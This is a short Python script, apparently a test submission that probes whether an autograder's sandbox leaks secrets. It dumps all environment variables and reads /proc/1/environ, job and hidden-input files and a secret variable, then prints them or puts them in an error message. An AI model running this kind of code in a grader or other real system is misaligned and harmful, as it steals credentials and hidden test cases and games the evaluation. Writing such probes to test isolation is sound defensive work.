"""Attack: find the grader's secrets (its environment, the assignment file with hidden cases)
and show them in one's own output."""
import os

print("ENV", dict(os.environ))
for path in ("/proc/1/environ", "../job.json", "/in/inputs.npz", "../../xor.toml"):
    try:
        print("FILE", path, open(path, errors="replace").read()[:2000])
    except OSError:
        pass
raise RuntimeError("secrets: " + os.environ.get("BPH_TEST_SECRET", "none found"))
